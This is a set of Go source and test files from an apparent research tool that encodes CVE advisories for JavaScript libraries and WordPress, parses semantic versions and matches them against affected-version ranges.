}

// wordpressAdvisories encodes Table 4: the five most recent and the five
// most severe WordPress CVEs the paper examined.
var wordpressAdvisories = []WPAdvisory{
	{ID: "CVE-2022-21664", Range: rs("4.1.34 ~ 5.8.3"), Patched: semver.MustParse("5.8.3"),
		Disclosed: d(2022, time.January, 6), PatchDate: d(2022, time.January, 6)},
	{ID: "CVE-2022-21663", Range: rs("3.7.37 ~ 5.8.3"), Patched: semver.MustParse("5.8.3"),
		Disclosed: d(2022, time.January, 6), PatchDate: d(2022, time.January, 6)},
	{ID: "CVE-2022-21662", Range: rs("3.7.37 ~ 5.8.3"), Patched: semver.MustParse("5.8.3"),
		Disclosed: d(2022, time.January, 6), PatchDate: d(2022, time.January, 6)},
	{ID: "CVE-2022-21661", Range: rs("3.7.37 ~ 5.8.3"), Patched: semver.MustParse("5.8.3"),
		Disclosed: d(2022, time.January, 6), PatchDate: d(2022, time.January, 6)},
	{ID: "CVE-2021-44223", Range: rs("< 5.8"), Patched: semver.MustParse("5.8"),
		Disclosed: d(2021, time.November, 25), PatchDate: d(2021, time.July, 20)},
	{ID: "CVE-2012-2400", Range: rs("< 3.3.2"), Patched: semver.MustParse("3.3.2"),
		Disclosed: d(2012, time.April, 21), PatchDate: d(2012, time.April, 20)},
	{ID: "CVE-2012-2399", Range: rs("< 3.5.2"), Patched: semver.MustParse("3.5.2"),
		Disclosed: d(2012, time.April, 21), PatchDate: d(2013, time.June, 21)},
	{ID: "CVE-2011-3125", Range: rs("< 3.1.3"), Patched: semver.MustParse("3.1.3"),
		Disclosed: d(2011, time.August, 10), PatchDate: d(2011, time.May, 25)},
	{ID: "CVE-2011-3122", Range: rs("< 3.1.3"), Patched: semver.MustParse("3.1.3"),
		Disclosed: d(2011, time.August, 10), PatchDate: d(2011, time.May, 25)},
	{ID: "CVE-2009-2853", Range: rs("< 2.8.3"), Patched: semver.MustParse("2.8.3"),
		Disclosed: d(2009, time.August, 18), PatchDate: d(2009, time.August, 3)},
}

// WordPressAdvisories returns Table 4's rows in the paper's order (five most
// recent, then five most severe).
func WordPressAdvisories() []WPAdvisory {
	out := make([]WPAdvisory, len(wordpressAdvisories))
	copy(out, wordpressAdvisories)
	return out
}
