// Package vulndb is the vulnerability and release-history database of the
// study: the client-side libraries of Table 1, their version release
// catalogs, the 28 advisories of Table 2 (with both the CVE-disclosed and
// the True Vulnerable Version ranges established by the paper's PoC
// experiments), the WordPress release line and its Table 4 CVEs, and the
// Table 3 browser/Flash support matrix.
//
// The paper collected this information manually from NVD, MITRE,
// cvedetails.com and Snyk; here it is encoded as Go data so the pipeline is
// reproducible offline. Release dates are the projects' published dates
// (approximated to the day where sources disagree).
package vulndb

import (
	"sort"
	"time"

	"clientres/internal/semver"
)

// Library identifies one client-side resource project.
type Library struct {
	// Slug is the canonical identifier used across the study ("jquery").
	Slug string
	// Name is the display name ("jQuery").
	Name string
	// Discontinued marks projects that are no longer maintained
	// (jQuery-Cookie, SWFObject — Section 6.3).
	Discontinued bool
	// Successor is the slug of the project users are asked to migrate to,
	// if any (jquery-cookie → js-cookie).
	Successor string
	// GlobalObject is the JavaScript global the library installs, used by
	// inline-code fingerprinting ("jQuery", "Modernizr", ...).
	GlobalObject string
}

// Release is one published version of a library.
type Release struct {
	Version semver.Version
	Date    time.Time
}

// Catalog is the ordered release history of a library.
type Catalog struct {
	Lib      Library
	Releases []Release // ascending by version
}

// d builds a date at UTC midnight.
func d(y int, m time.Month, day int) time.Time {
	return time.Date(y, m, day, 0, 0, 0, 0, time.UTC)
}

// r builds a Release from a version literal and date.
func r(v string, y int, m time.Month, day int) Release {
	return Release{Version: semver.MustParse(v), Date: d(y, m, day)}
}

// Versions returns the catalog's versions ascending.
func (c Catalog) Versions() []semver.Version {
	out := make([]semver.Version, len(c.Releases))
	for i, rel := range c.Releases {
		out[i] = rel.Version
	}
	return out
}

// Latest returns the newest release of the catalog.
func (c Catalog) Latest() Release {
	if len(c.Releases) == 0 {
		return Release{}
	}
	return c.Releases[len(c.Releases)-1]
}

// LatestAsOf returns the newest release published on or before t, or a zero
// Release if none was.
func (c Catalog) LatestAsOf(t time.Time) Release {
	var best Release
	for _, rel := range c.Releases {
		if !rel.Date.After(t) && (best.Version.IsZero() || best.Version.Less(rel.Version)) {
			best = rel
		}
	}
	return best
}

// Find returns the release for an exact version (by semantic equality).
func (c Catalog) Find(v semver.Version) (Release, bool) {
	for _, rel := range c.Releases {
		if rel.Version.Equal(v) {
			return rel, true
		}
	}
	return Release{}, false
}

// ReleasedIn returns releases with dates in [from, to).
func (c Catalog) ReleasedIn(from, to time.Time) []Release {
	var out []Release
	for _, rel := range c.Releases {
		if !rel.Date.Before(from) && rel.Date.Before(to) {
			out = append(out, rel)
		}
	}
	return out
}

// AttackType categorizes an advisory per the paper's Table 2 terminology.
type AttackType string

// Attack types observed across the Table 2 advisories.
const (
	AttackXSS                AttackType = "XSS"
	AttackPrototypePollution AttackType = "Prototype Pollution"
	AttackCodeInjection      AttackType = "Arbitrary Code Injection"
	AttackResourceExhaustion AttackType = "Resource Exhaustion"
	AttackReDoS              AttackType = "ReDOS"
	AttackMissingAuth        AttackType = "Missing Authorization"
)

// Severity maps an attack class onto a coarse CVSS-style tier, the field
// audit policies gate on ("fail if any HIGH CVE older than 90 days").
// Classes that hand an attacker script execution or authorization are
// "high"; availability-only classes are "medium".
func (a AttackType) Severity() string {
	switch a {
	case AttackXSS, AttackPrototypePollution, AttackCodeInjection, AttackMissingAuth:
		return "high"
	case AttackResourceExhaustion, AttackReDoS:
		return "medium"
	}
	return "medium"
}

// Advisory is one publicly-reported vulnerability of a client-side library.
type Advisory struct {
	// ID is the CVE identifier, or a synthetic identifier for the
	// jQuery-Migrate issue that never received a CVE.
	ID string
	// Lib is the affected library's slug.
	Lib string
	// CVERange is the affected-version range as stated by the CVE report.
	CVERange semver.RangeSet
	// TrueRange is the True Vulnerable Version range established by the
	// paper's PoC validation (Section 6.4). Zero when the paper found the
	// CVE range accurate (Table 2 "–") or had no PoC to test with.
	TrueRange semver.RangeSet
	// Patched is the version that fixes the vulnerability; zero when no
	// patched version exists (Prototype).
	Patched semver.Version
	// Disclosed is the public disclosure date of the advisory.
	Disclosed time.Time
	// PatchDate is the release date of the patched version; zero if none.
	PatchDate time.Time
	// Attack is the vulnerability class.
	Attack AttackType
	// HasPoC records whether a public PoC existed (Section 6.4 found and
	// used seven, reimplementing the broken ones).
	HasPoC bool
	// Conditional marks vulnerabilities the paper's Section 9 calls out as
	// exploitable only under specific conditions (e.g. the jQuery 2020
	// prefilter CVEs require the site to pass untrusted HTML into DOM
	// manipulation methods). The exploitability-aware prevalence analysis
	// (an extension) can exclude these.
	Conditional bool
}

// EffectiveTrueRange returns the TVV range, falling back to the CVE range
// when the paper validated the CVE as accurate or could not test it.
func (a Advisory) EffectiveTrueRange() semver.RangeSet {
	if a.TrueRange.IsZero() {
		return a.CVERange
	}
	return a.TrueRange
}

// Accuracy classifies how a CVE's stated range relates to the true range.
type Accuracy int

// Accuracy classes (Section 6.4).
const (
	// Accurate: the stated range matches the true range over the catalog.
	Accurate Accuracy = iota
	// Understated: some truly-vulnerable versions are missing from the
	// CVE range — developers on those versions are falsely reassured.
	Understated
	// Overstated: the CVE range includes versions that are not actually
	// vulnerable — causing ill-advised updates.
	Overstated
	// Mixed: both understated and overstated versions exist.
	Mixed
	// Unvalidated: no independent true range is available.
	Unvalidated
)

func (a Accuracy) String() string {
	switch a {
	case Accurate:
		return "accurate"
	case Understated:
		return "understated"
	case Overstated:
		return "overstated"
	case Mixed:
		return "mixed"
	case Unvalidated:
		return "unvalidated"
	}
	return "?"
}

// ClassifyAccuracy compares the advisory's CVE range against its true range
// over the concrete versions of the library's catalog.
func (a Advisory) ClassifyAccuracy(c Catalog) Accuracy {
	if a.TrueRange.IsZero() {
		return Unvalidated
	}
	under, over := false, false
	for _, v := range c.Versions() {
		inCVE := a.CVERange.Contains(v)
		inTrue := a.TrueRange.Contains(v)
		if inTrue && !inCVE {
			under = true
		}
		if inCVE && !inTrue {
			over = true
		}
	}
	switch {
	case under && over:
		return Mixed
	case under:
		return Understated
	case over:
		return Overstated
	default:
		return Accurate
	}
}

// LibraryBySlug returns the library metadata for a slug.
func LibraryBySlug(slug string) (Library, bool) {
	for _, l := range libraries {
		if l.Slug == slug {
			return l, true
		}
	}
	return Library{}, false
}

// Libraries returns the top-15 library metadata in the paper's Table 1
// order (by average usage).
func Libraries() []Library {
	out := make([]Library, len(libraries))
	copy(out, libraries)
	return out
}

// CatalogFor returns the release catalog for a library slug.
func CatalogFor(slug string) (Catalog, bool) {
	c, ok := catalogs[slug]
	return c, ok
}

// Catalogs returns all release catalogs keyed by slug.
func Catalogs() map[string]Catalog {
	out := make(map[string]Catalog, len(catalogs))
	for k, v := range catalogs {
		out[k] = v
	}
	return out
}

// Advisories returns every advisory of Table 2 in the paper's row order.
func Advisories() []Advisory {
	out := make([]Advisory, len(advisories))
	copy(out, advisories)
	return out
}

// AdvisoriesFor returns the advisories affecting one library.
func AdvisoriesFor(slug string) []Advisory {
	var out []Advisory
	for _, a := range advisories {
		if a.Lib == slug {
			out = append(out, a)
		}
	}
	return out
}

// AdvisoriesDisclosedBy returns advisories publicly disclosed on or before t,
// sorted by disclosure date. The prevalence analysis uses this to avoid
// counting a site as vulnerable to a CVE nobody knew about yet.
func AdvisoriesDisclosedBy(t time.Time) []Advisory {
	var out []Advisory
	for _, a := range advisories {
		if !a.Disclosed.After(t) {
			out = append(out, a)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Disclosed.Before(out[j].Disclosed) })
	return out
}
