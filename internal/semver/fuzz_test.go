package semver

import "testing"

// FuzzParseVersion checks the parser's round-trip invariants on arbitrary
// input: whatever Parse accepts must re-parse from both its String and
// Canonical forms to an equal version, and Canonical must be idempotent.
func FuzzParseVersion(f *testing.F) {
	seeds := []string{
		"1.12.4", "v3.6.0", "2.2", "3", "1.6.0.1", "3.0.0-rc1", "1.0b2",
		"0.0.0", "10.20.30", "1.0.0-alpha.1", "", " ", "1..2", "x", "v",
		"1.2.3.4.5", "01.02", "-1.2", "1.2-", "1.2.3-β",
		"0 +", "1.2 ", "1 .2", "0-a ", // whitespace crashers found by fuzzing
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, err := Parse(s)
		if err != nil {
			return // rejected input: only requirement is no panic
		}
		rt, err := Parse(v.String())
		if err != nil {
			t.Fatalf("Parse(%q).String() = %q does not re-parse: %v", s, v.String(), err)
		}
		if !rt.Equal(v) {
			t.Fatalf("round trip changed %q: %q -> %q", s, v.String(), rt.String())
		}
		canon := v.Canonical()
		cv, err := Parse(canon)
		if err != nil {
			t.Fatalf("Canonical(%q) = %q does not re-parse: %v", s, canon, err)
		}
		if !cv.Equal(v) {
			t.Fatalf("canonical form of %q compares unequal: %q", s, canon)
		}
		if again := cv.Canonical(); again != canon {
			t.Fatalf("Canonical not idempotent: %q -> %q -> %q", s, canon, again)
		}
		if v.Compare(v) != 0 {
			t.Fatalf("Compare(%q, itself) != 0", s)
		}
	})
}

// FuzzRange checks that ParseRange never panics and that accepted ranges
// support String and Contains on arbitrary probe versions.
func FuzzRange(f *testing.F) {
	seeds := []string{
		"< 1.9.0", ">= 1.2.0 < 3.5.0", "1.0.3 ~ 3.5.0",
		"< 3.4.1, >= 4.0.0 < 4.3.1", "*", "all", "= 2.2.1", "<= 1.0",
		"", ",", "~", "< ", ">= x", "1 ~ ", "> 1 > 2 > 3",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	probes := []Version{
		MustParse("0.1"), MustParse("1.9.0"), MustParse("3.5.0"),
		MustParse("4.0.0-rc1"), {},
	}
	f.Fuzz(func(t *testing.T, s string) {
		rs, err := ParseRange(s)
		if err != nil {
			return
		}
		_ = rs.String()
		for _, p := range probes {
			_ = rs.Contains(p)
		}
		for _, iv := range rs.Intervals {
			_ = iv.Empty()
			_ = iv.String()
		}
	})
}
