// Package semver implements version parsing, ordering, and range matching
// for client-side library versions as they appear in the wild and in CVE
// reports.
//
// JavaScript library projects nominally follow Semantic Versioning
// (MAJOR.MINOR.PATCH), but versions observed in URLs and CVE reports are
// messier: two-component versions ("2.2"), four-component versions
// ("1.6.0.1", Prototype), bare majors ("3", Polyfill), and pre-release
// suffixes ("1.0b2", "2.0.0-rc.1"). This package accepts all of them.
//
// Ordering follows numeric component-wise comparison with missing trailing
// components treated as zero ("1.9" == "1.9.0"), and any pre-release
// ordering strictly before its release ("3.0.0-rc1" < "3.0.0").
package semver

import (
	"fmt"
	"strconv"
	"strings"
	"unicode"
)

// Version is a parsed library version. The zero Version is "0".
type Version struct {
	// Parts holds the numeric dot-separated components, most significant
	// first. It never has trailing zeros beyond the parsed precision; use
	// Compare for equality across precisions.
	Parts []int
	// Pre is the pre-release tag, if any ("rc1" in "3.0.0-rc1", "b2" in
	// "1.0b2"). Empty for release versions. A version with a non-empty Pre
	// orders strictly before the same numeric version with an empty Pre.
	Pre string
	raw string
}

// Parse parses a version string. Accepted grammar:
//
//	version    = number ("." number)* [pre]
//	pre        = "-" tag | "+" tag | letter-initiated tag glued to a number
//
// Examples: "1.12.4", "2.2", "3", "1.6.0.1", "3.0.0-rc1", "1.0b2".
// A leading "v" or "V" is stripped ("v3.6.0").
func Parse(s string) (Version, error) {
	raw := s
	s = strings.TrimSpace(s)
	if len(s) > 0 && (s[0] == 'v' || s[0] == 'V') {
		s = s[1:]
	}
	if s == "" {
		return Version{}, fmt.Errorf("semver: empty version")
	}
	// Interior whitespace never appears in real versions, and a tag ending
	// in whitespace would not survive the Canonical → Parse round trip
	// (TrimSpace would eat it), so reject it outright.
	if strings.IndexFunc(s, unicode.IsSpace) >= 0 {
		return Version{}, fmt.Errorf("semver: %q: contains whitespace", raw)
	}
	// Split off an explicit pre-release marker first.
	pre := ""
	if i := strings.IndexAny(s, "-+"); i >= 0 {
		pre = s[i+1:]
		s = s[:i]
		if s == "" {
			return Version{}, fmt.Errorf("semver: %q: no numeric part", raw)
		}
	}
	var parts []int
	for _, comp := range strings.Split(s, ".") {
		if comp == "" {
			return Version{}, fmt.Errorf("semver: %q: empty component", raw)
		}
		// A component like "0b2" carries a glued pre-release tag.
		numEnd := 0
		for numEnd < len(comp) && comp[numEnd] >= '0' && comp[numEnd] <= '9' {
			numEnd++
		}
		if numEnd == 0 {
			return Version{}, fmt.Errorf("semver: %q: component %q is not numeric", raw, comp)
		}
		n, err := strconv.Atoi(comp[:numEnd])
		if err != nil {
			return Version{}, fmt.Errorf("semver: %q: %v", raw, err)
		}
		parts = append(parts, n)
		if numEnd < len(comp) {
			if pre != "" {
				return Version{}, fmt.Errorf("semver: %q: multiple pre-release tags", raw)
			}
			pre = comp[numEnd:]
		}
	}
	return Version{Parts: parts, Pre: pre, raw: raw}, nil
}

// MustParse is Parse that panics on error. For statically-known versions.
func MustParse(s string) Version {
	v, err := Parse(s)
	if err != nil {
		panic(err)
	}
	return v
}

// String returns the original string the version was parsed from, or a
// canonical rendering for constructed values.
func (v Version) String() string {
	if v.raw != "" {
		return v.raw
	}
	if len(v.Parts) == 0 {
		return "0"
	}
	b := new(strings.Builder)
	for i, p := range v.Parts {
		if i > 0 {
			b.WriteByte('.')
		}
		fmt.Fprintf(b, "%d", p)
	}
	if v.Pre != "" {
		b.WriteByte('-')
		b.WriteString(v.Pre)
	}
	return b.String()
}

// Canonical returns the version rendered with exactly three components
// (extra components kept, missing padded with zeros) and any pre-release
// tag, independent of the source formatting. Useful as a map key.
func (v Version) Canonical() string {
	parts := v.Parts
	for len(parts) < 3 {
		parts = append(parts, 0)
	}
	b := new(strings.Builder)
	for i, p := range parts {
		if i > 0 {
			b.WriteByte('.')
		}
		fmt.Fprintf(b, "%d", p)
	}
	if v.Pre != "" {
		b.WriteByte('-')
		b.WriteString(v.Pre)
	}
	return b.String()
}

// Major returns the first numeric component (0 if absent).
func (v Version) Major() int { return v.part(0) }

// Minor returns the second numeric component (0 if absent).
func (v Version) Minor() int { return v.part(1) }

// Patch returns the third numeric component (0 if absent).
func (v Version) Patch() int { return v.part(2) }

func (v Version) part(i int) int {
	if i < len(v.Parts) {
		return v.Parts[i]
	}
	return 0
}

// IsZero reports whether v is the zero value (no parsed content).
func (v Version) IsZero() bool { return len(v.Parts) == 0 && v.Pre == "" && v.raw == "" }

// Compare returns -1, 0, or +1 if v orders before, equal to, or after w.
// Missing trailing components compare as zero; a pre-release orders before
// the corresponding release; two pre-releases compare lexically by tag.
func (v Version) Compare(w Version) int {
	n := len(v.Parts)
	if len(w.Parts) > n {
		n = len(w.Parts)
	}
	for i := 0; i < n; i++ {
		a, b := v.part(i), w.part(i)
		switch {
		case a < b:
			return -1
		case a > b:
			return 1
		}
	}
	switch {
	case v.Pre == w.Pre:
		return 0
	case v.Pre == "":
		return 1 // release > pre-release
	case w.Pre == "":
		return -1
	case v.Pre < w.Pre:
		return -1
	default:
		return 1
	}
}

// Less reports whether v orders strictly before w.
func (v Version) Less(w Version) bool { return v.Compare(w) < 0 }

// Equal reports whether v and w denote the same version ("1.9" equals
// "1.9.0").
func (v Version) Equal(w Version) bool { return v.Compare(w) == 0 }

// Sort sorts versions ascending in place.
func Sort(vs []Version) {
	// Insertion sort keeps this dependency-free and is fine for catalog
	// sizes (≤ ~150 versions per library).
	for i := 1; i < len(vs); i++ {
		for j := i; j > 0 && vs[j].Less(vs[j-1]); j-- {
			vs[j], vs[j-1] = vs[j-1], vs[j]
		}
	}
}

// Max returns the larger of a and b.
func Max(a, b Version) Version {
	if a.Compare(b) >= 0 {
		return a
	}
	return b
}

// Min returns the smaller of a and b.
func Min(a, b Version) Version {
	if a.Compare(b) <= 0 {
		return a
	}
	return b
}
