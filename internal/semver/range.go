package semver

import (
	"fmt"
	"strings"
)

// Interval is a half-open-ish version interval with explicit inclusivity on
// both bounds. A zero bound (IsZero) means unbounded on that side, so the
// zero Interval matches every version ("All versions" in CVE parlance).
type Interval struct {
	Lo, Hi       Version // zero value = unbounded
	LoInc, HiInc bool    // whether the bound itself is included
}

// All is the interval containing every version.
var All = Interval{}

// Contains reports whether v lies in the interval.
func (iv Interval) Contains(v Version) bool {
	if !iv.Lo.IsZero() {
		c := v.Compare(iv.Lo)
		if c < 0 || (c == 0 && !iv.LoInc) {
			return false
		}
	}
	if !iv.Hi.IsZero() {
		c := v.Compare(iv.Hi)
		if c > 0 || (c == 0 && !iv.HiInc) {
			return false
		}
	}
	return true
}

// Empty reports whether the interval can contain no version (bounds crossed).
func (iv Interval) Empty() bool {
	if iv.Lo.IsZero() || iv.Hi.IsZero() {
		return false
	}
	c := iv.Lo.Compare(iv.Hi)
	if c > 0 {
		return true
	}
	if c == 0 {
		return !(iv.LoInc && iv.HiInc)
	}
	return false
}

// String renders the interval in CVE-report style: "< 1.9.0",
// ">= 1.2.0 < 3.5.0", "<= 1.7.3", "*" for all versions.
func (iv Interval) String() string {
	var parts []string
	if !iv.Lo.IsZero() {
		op := ">"
		if iv.LoInc {
			op = ">="
		}
		parts = append(parts, op+" "+iv.Lo.String())
	}
	if !iv.Hi.IsZero() {
		op := "<"
		if iv.HiInc {
			op = "<="
		}
		parts = append(parts, op+" "+iv.Hi.String())
	}
	if len(parts) == 0 {
		return "*"
	}
	return strings.Join(parts, " ")
}

// RangeSet is a union of intervals: a version matches if any interval
// contains it. CVE reports for multi-branch projects (e.g. Bootstrap 3.x and
// 4.x) state one interval per maintained branch.
type RangeSet struct {
	Intervals []Interval
}

// Contains reports whether any interval of the set contains v.
func (rs RangeSet) Contains(v Version) bool {
	for _, iv := range rs.Intervals {
		if iv.Contains(v) {
			return true
		}
	}
	return false
}

// IsZero reports whether the set has no intervals (matches nothing).
func (rs RangeSet) IsZero() bool { return len(rs.Intervals) == 0 }

// String renders the set with ", " between branch intervals.
func (rs RangeSet) String() string {
	if len(rs.Intervals) == 0 {
		return "(none)"
	}
	parts := make([]string, len(rs.Intervals))
	for i, iv := range rs.Intervals {
		parts[i] = iv.String()
	}
	return strings.Join(parts, ", ")
}

// ParseRange parses a range expression into a RangeSet.
//
// Grammar (whitespace-separated comparators AND within a group, commas OR
// between groups, mirroring how CVE reports state multi-branch ranges):
//
//	set        = group ("," group)* | "*" | "all"
//	group      = comparator+
//	comparator = ("<" | "<=" | ">" | ">=" | "=" | "==") version
//	           | version                      (exact match)
//	           | version "~" version          (>= lo, < hi; paper's "lo ∼ hi")
//
// Examples:
//
//	"< 1.9.0"
//	">= 1.2.0 < 3.5.0"
//	"1.0.3 ~ 3.5.0"
//	"< 3.4.1, >= 4.0.0 < 4.3.1"
//	"*"
func ParseRange(s string) (RangeSet, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return RangeSet{}, fmt.Errorf("semver: empty range")
	}
	if s == "*" || strings.EqualFold(s, "all") {
		return RangeSet{Intervals: []Interval{All}}, nil
	}
	var set RangeSet
	for _, group := range strings.Split(s, ",") {
		iv, err := parseGroup(group)
		if err != nil {
			return RangeSet{}, err
		}
		set.Intervals = append(set.Intervals, iv)
	}
	return set, nil
}

// MustParseRange is ParseRange that panics on error.
func MustParseRange(s string) RangeSet {
	rs, err := ParseRange(s)
	if err != nil {
		panic(err)
	}
	return rs
}

func parseGroup(group string) (Interval, error) {
	fields := strings.Fields(group)
	if len(fields) == 0 {
		return Interval{}, fmt.Errorf("semver: empty range group in %q", group)
	}
	// "lo ~ hi" form, possibly tokenized as "lo", "~", "hi" or "lo~hi".
	joined := strings.Join(fields, " ")
	if strings.Contains(joined, "~") {
		lohi := strings.SplitN(joined, "~", 2)
		lo, err := Parse(strings.TrimSpace(lohi[0]))
		if err != nil {
			return Interval{}, err
		}
		hi, err := Parse(strings.TrimSpace(lohi[1]))
		if err != nil {
			return Interval{}, err
		}
		return Interval{Lo: lo, LoInc: true, Hi: hi}, nil
	}
	var iv Interval
	i := 0
	for i < len(fields) {
		tok := fields[i]
		op := ""
		rest := tok
		for _, o := range []string{"<=", ">=", "==", "<", ">", "="} {
			if strings.HasPrefix(tok, o) {
				op = o
				rest = strings.TrimSpace(tok[len(o):])
				break
			}
		}
		if op != "" && rest == "" {
			// Operator and version in separate tokens.
			i++
			if i >= len(fields) {
				return Interval{}, fmt.Errorf("semver: dangling operator %q in %q", op, group)
			}
			rest = fields[i]
		}
		v, err := Parse(rest)
		if err != nil {
			return Interval{}, err
		}
		switch op {
		case "<":
			iv.Hi, iv.HiInc = v, false
		case "<=":
			iv.Hi, iv.HiInc = v, true
		case ">":
			iv.Lo, iv.LoInc = v, false
		case ">=":
			iv.Lo, iv.LoInc = v, true
		case "=", "==", "":
			iv.Lo, iv.LoInc = v, true
			iv.Hi, iv.HiInc = v, true
		}
		i++
	}
	return iv, nil
}

// Filter returns the versions of vs contained in the set, preserving order.
func (rs RangeSet) Filter(vs []Version) []Version {
	var out []Version
	for _, v := range vs {
		if rs.Contains(v) {
			out = append(out, v)
		}
	}
	return out
}
