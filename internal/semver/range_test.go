package semver

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestParseRangeForms(t *testing.T) {
	cases := []struct {
		expr    string
		in, out []string // versions inside / outside the range
	}{
		{"< 1.9.0", []string{"1.8.3", "1.0", "1.8.99"}, []string{"1.9.0", "1.9.1", "3.6.0"}},
		{"<= 1.7.3", []string{"1.7.3", "1.0"}, []string{"1.7.4", "2.0"}},
		{">= 1.2.0 < 3.5.0", []string{"1.2.0", "2.2.4", "3.4.9"}, []string{"1.1.9", "3.5.0", "3.5.1"}},
		{"1.0.3 ~ 3.5.0", []string{"1.0.3", "3.4.1"}, []string{"1.0.2", "3.5.0"}},
		{"1.4.2 ~ 1.6.2", []string{"1.4.2", "1.6.1"}, []string{"1.6.2", "1.4.1"}},
		{"< 3.4.1, >= 4.0.0 < 4.3.1", []string{"3.3.7", "4.1.2", "3.4.0"}, []string{"3.4.1", "4.3.1", "3.9.9"}},
		{"*", []string{"0.1", "99.0"}, nil},
		{"all", []string{"1.7.3", "0.0.1"}, nil},
		{"= 2.2", []string{"2.2", "2.2.0"}, []string{"2.2.1", "2.1"}},
		{"2.2", []string{"2.2"}, []string{"2.3"}},
		{">1.0 <2.0", []string{"1.5"}, []string{"1.0", "2.0"}},
	}
	for _, c := range cases {
		rs, err := ParseRange(c.expr)
		if err != nil {
			t.Errorf("ParseRange(%q): %v", c.expr, err)
			continue
		}
		for _, s := range c.in {
			if !rs.Contains(MustParse(s)) {
				t.Errorf("%q should contain %s", c.expr, s)
			}
		}
		for _, s := range c.out {
			if rs.Contains(MustParse(s)) {
				t.Errorf("%q should not contain %s", c.expr, s)
			}
		}
	}
}

func TestParseRangeErrors(t *testing.T) {
	for _, expr := range []string{"", "<", ">= ", "< abc", "1.2 ~", "~ 2.0"} {
		if _, err := ParseRange(expr); err == nil {
			t.Errorf("ParseRange(%q): expected error", expr)
		}
	}
}

func TestIntervalString(t *testing.T) {
	cases := map[string]string{
		"< 1.9.0":          "< 1.9.0",
		">= 1.2.0 < 3.5.0": ">= 1.2.0 < 3.5.0",
		"*":                "*",
		"<= 1.7.3":         "<= 1.7.3",
	}
	for expr, want := range cases {
		rs := MustParseRange(expr)
		if got := rs.Intervals[0].String(); got != want {
			t.Errorf("Interval(%q).String() = %q, want %q", expr, got, want)
		}
	}
}

func TestRangeSetString(t *testing.T) {
	rs := MustParseRange("< 3.4.1, >= 4.0.0 < 4.3.1")
	want := "< 3.4.1, >= 4.0.0 < 4.3.1"
	if got := rs.String(); got != want {
		t.Errorf("RangeSet.String() = %q, want %q", got, want)
	}
	var empty RangeSet
	if empty.String() != "(none)" || !empty.IsZero() {
		t.Error("empty RangeSet rendering/IsZero wrong")
	}
}

func TestIntervalEmpty(t *testing.T) {
	cases := []struct {
		iv    Interval
		empty bool
	}{
		{Interval{Lo: MustParse("2.0"), LoInc: true, Hi: MustParse("1.0")}, true},
		{Interval{Lo: MustParse("1.0"), LoInc: true, Hi: MustParse("1.0"), HiInc: true}, false},
		{Interval{Lo: MustParse("1.0"), Hi: MustParse("1.0"), HiInc: true}, true}, // (1.0, 1.0]
		{All, false},
		{Interval{Hi: MustParse("0.1")}, false},
	}
	for i, c := range cases {
		if got := c.iv.Empty(); got != c.empty {
			t.Errorf("case %d: Empty() = %v, want %v", i, got, c.empty)
		}
	}
}

func TestFilter(t *testing.T) {
	vs := []Version{MustParse("1.0"), MustParse("1.9.1"), MustParse("3.5.0"), MustParse("3.6.0")}
	rs := MustParseRange("< 3.5.0")
	got := rs.Filter(vs)
	if len(got) != 2 || got[0].String() != "1.0" || got[1].String() != "1.9.1" {
		t.Errorf("Filter = %v", got)
	}
}

// Property: membership in an interval is consistent with the ordering of its
// bounds — if v is in [lo, hi) then lo <= v < hi.
func TestQuickIntervalConsistency(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		lo, hi, v := randomVersion(r), randomVersion(r), randomVersion(r)
		if hi.Less(lo) {
			lo, hi = hi, lo
		}
		iv := Interval{Lo: lo, LoInc: true, Hi: hi}
		if iv.Contains(v) {
			return lo.Compare(v) <= 0 && v.Compare(hi) < 0
		}
		return lo.Compare(v) > 0 || v.Compare(hi) >= 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Property: All contains every version; an empty-bounds RangeSet none.
func TestQuickAllContains(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		v := randomVersion(r)
		var none RangeSet
		return All.Contains(v) && !none.Contains(v)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// Table 2 ranges, verbatim from the paper, must parse.
func TestPaperRangesParse(t *testing.T) {
	exprs := []string{
		"< 1.9.0", "1.0.3 ~ 3.5.0", "1.2.0 ~ 3.5.0", "< 3.4.0",
		"1.12.0 ~ 3.0.0", "1.4.2 ~ 1.6.2", "< 1.9.1", "< 1.6.3",
		"< 3.4.1, >= 4.0.0 < 4.3.1", "< 4.1.2", "< 1.2.1",
		"< 1.10.0", "< 1.12.0", "< 1.13.0", "1.3.2 ~ 1.12.1",
		"< 2.19.3", "< 2.11.2", "<= 1.7.3", "< 1.6.0.1", "*",
		"< 3.6.0", "1.4.0 ~ 3.5.0", "1.12.0 ~ 3.5.0", "1.5.0 ~ 2.2.4",
		"1.0.0 ~ 3.0.0", "1.10.0 ~ 1.13.0", "2.3.0 ~ 4.1.2",
		"3.2.0 ~ 3.4.0", "2.1.0 ~ 3.4.0", "2.8.1 ~ 2.15.2",
	}
	for _, e := range exprs {
		if _, err := ParseRange(e); err != nil {
			t.Errorf("paper range %q failed to parse: %v", e, err)
		}
	}
}
