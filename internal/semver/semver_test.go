package semver

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func TestParseBasic(t *testing.T) {
	cases := []struct {
		in    string
		parts []int
		pre   string
	}{
		{"1.12.4", []int{1, 12, 4}, ""},
		{"2.2", []int{2, 2}, ""},
		{"3", []int{3}, ""},
		{"1.6.0.1", []int{1, 6, 0, 1}, ""},
		{"v3.6.0", []int{3, 6, 0}, ""},
		{"3.0.0-rc1", []int{3, 0, 0}, "rc1"},
		{"1.0b2", []int{1, 0}, "b2"},
		{"0.0.0", []int{0, 0, 0}, ""},
		{"10.20.30.40", []int{10, 20, 30, 40}, ""},
		{" 1.2.3 ", []int{1, 2, 3}, ""},
		{"2.29.1", []int{2, 29, 1}, ""},
	}
	for _, c := range cases {
		v, err := Parse(c.in)
		if err != nil {
			t.Errorf("Parse(%q): %v", c.in, err)
			continue
		}
		if !reflect.DeepEqual(v.Parts, c.parts) || v.Pre != c.pre {
